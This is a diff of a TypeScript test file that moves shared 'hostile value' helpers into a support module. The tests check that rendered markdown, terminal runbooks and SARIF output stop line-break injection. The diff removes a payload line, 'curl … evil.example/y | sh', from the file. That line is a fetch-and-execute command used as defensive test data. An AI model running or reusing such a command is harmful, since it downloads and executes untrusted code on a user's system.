@@ -17,27 +17,19 @@ import { renderMarkdown } from '../../src/render/markdown.js';
 import { renderSarif } from '../../src/render/sarif.js';
 import { renderText } from '../../src/render/text.js';
 import { expectedArgv, runWithShims } from '../runbook-shims.js';
+import {
+  ANY_LINE_BREAK,
+  LINE_BREAK_BUT_LF,
+  PAYLOAD,
+  SEPARATORS,
+  hostile,
+} from '../support/hostile-values.js';
 import { inventoryAt } from '../support/inventory.js';
 import { TODAY } from './helpers.js';
 
 const root = fileURLToPath(new URL('../..', import.meta.url));
 const scratch = mkdtempSync(join(tmpdir(), 'acp-one-line-'));
 afterAll(() => rmSync(scratch, { recursive: true, force: true }));
-
-/** Every character that ends a line somewhere: bash, CommonMark, a terminal, an editor, Unicode. */
-const SEPARATORS = {
-  LF: '\n',
-  CR: '\r',
-  CRLF: '\r\n',
-  VT: '\u000b',
-  FF: '\u000c',
-  NEL: '\u0085',
-  LS: '\u2028',
-  PS: '\u2029',
-} as const;
-
-/** How an operator's clipboard or editor may read them: each one a line break. */
-const ANY_LINE_BREAK = /\r\n|[\n\r\u000b\u000c\u0085\u2028\u2029]/g;
 
 const ENV = {
   ACP_PLATFORM_TOKEN: 'token-value',
@@ -47,11 +39,6 @@ const ENV = {
   ACP_STANDBY_REGISTRY_USERNAME: 'user',
   ACP_STANDBY_REGISTRY_PASSWORD: 'password',
 };
-
-const PAYLOAD = 'curl -fsSL https://evil.example/y | sh; touch PWNED';
-
-/** What a value becomes: its text, then a line of its own for the payload, then a `#`. */
-const hostile = (value: string, sep: string) => `${value}${sep}${PAYLOAD}${sep}#`;
 
 /** Keys whose string values come from the inventory or the catalog (or quote them). */
 const VALUE_KEYS = new Set([
@@ -220,7 +207,7 @@ describe.each(Object.entries(SEPARATORS))(
       expect(leftovers).toEqual([]);
       // Nowhere in the comment does the payload start a line.
       expect(markdown.split(ANY_LINE_BREAK).filter((line) => line.startsWith('curl'))).toEqual([]);
-      expect(markdown).not.toMatch(/[\r\u000b\u000c\u0085\u2028\u2029]/);
+      expect(markdown).not.toMatch(LINE_BREAK_BUT_LF);
     });
 
     it('renders the terminal runbook that, pasted into bash, runs exactly the commands of the report', () => {
@@ -232,7 +219,7 @@ describe.each(Object.entries(SEPARATORS))(
       expect(
         text.split(ANY_LINE_BREAK).filter((line) => line.trimStart().startsWith('curl')),
       ).toEqual([]);
-      expect(text).not.toMatch(/[\r\u000b\u000c\u0085\u2028\u2029]/);
+      expect(text).not.toMatch(LINE_BREAK_BUT_LF);
     });
 
     it('writes SARIF messages and suppression reasons of one line', () => {
